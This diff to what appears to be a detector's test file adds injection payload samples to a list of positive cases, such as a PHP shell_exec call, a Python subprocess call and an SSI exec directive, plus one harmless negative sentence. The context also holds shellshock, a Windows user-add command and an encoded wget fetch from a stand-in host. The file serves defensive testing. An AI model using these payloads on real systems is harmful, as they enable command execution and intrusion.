@@ -79,6 +79,13 @@ POSITIVES = [
     (cmdi, "shellshock", "() { :; }; /usr/bin/id"),
     (cmdi, "windows command", "& net user eve S3cret! /add"),
     (cmdi, "absolute path binary", "; /bin/ls -la /"),
+    (cmdi, "command line handed to php's shell_exec", '<?= shell_exec("uname -a") ?>'),
+    (
+        cmdi,
+        "python subprocess with an argument list",
+        "__import__('subprocess').check_output(['id'])",
+    ),
+    (cmdi, "server-side include exec", '<!--#exec cmd="ls -la /home" -->'),
     (cmdi, "url-encoded separator", "file%3Bwget%20http%3A%2F%2F203.0.113.2%2Fa"),
     # code_injection
     (code_injection, "python import", "__import__('os').popen('ls').read()"),
@@ -218,6 +225,7 @@ NEGATIVES = [
     "Dear {{{ first_name }}}, your code is {{{code}}}.",
     "Discounts of 5%-10% and 2%e off: 15%a%b",
     "Done; drop it. Call mom(again) later; load data from the disk; drop me a line",
+    "Salmon spawn('river') season; check_call('mom') later",
     "Press '*' then '#', or type 'and' / 'or' to combine terms",
     "Guns N' Roses - 'Appetite' (1987), Smith's - Jones' store",
     "It's 3' x 5' and costs 2' / 3' of the old one",
